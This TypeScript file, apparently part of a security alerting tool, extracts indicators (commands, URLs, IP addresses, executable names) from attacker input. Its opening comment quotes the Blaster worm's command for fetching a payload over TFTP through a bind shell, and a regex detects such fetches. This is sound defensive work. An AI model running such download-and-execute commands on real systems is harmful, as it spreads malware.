// Indicators from what an attacker typed after an exploit (Blaster: `tftp -i <ip> GET msblast.exe`
// on the bind shell at 4444): the command, hosts, URLs and file names, as STIX-like typed values.

import type { Indicator } from '../model/alert.js';

const MAX_COMMAND_CHARS = 512;
const IPV4 = /\b(?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3}\b/g;
const URL = /\b(?:https?|ftp|tftp):\/\/[^\s"'<>]+/gi;
const FILE = /\b[\w.-]+\.(?:exe|com|scr|bat|cmd|dll|vbs|ps1|pif)\b/gi;
const TFTP_GET = /\btftp(?:\.exe)?\s+(?:-i\s+)?(\S+)\s+get\s+(\S+)/i;

export function extractIndicators(text: string): Indicator[] {
  const out: Indicator[] = [];
  const seen = new Set<string>();
  const add = (type: string, value: string): void => {
    const k = `${type}\0${value}`;
    if (!seen.has(k)) {
      seen.add(k);
      out.push({ type, value });
    }
  };
  const command = text.replace(/[\r\n]+/g, ' ').trim().slice(0, MAX_COMMAND_CHARS);
  if (command) add('command', command);
  const tftp = TFTP_GET.exec(text);
  if (tftp) add('url', `tftp://${tftp[1]}/${tftp[2]}`);
  for (const m of text.matchAll(URL)) add('url', m[0]);
  for (const m of text.matchAll(IPV4)) add('ipv4-addr', m[0]);
  for (const m of text.matchAll(FILE)) add('file-name', m[0]);
  return out;
}
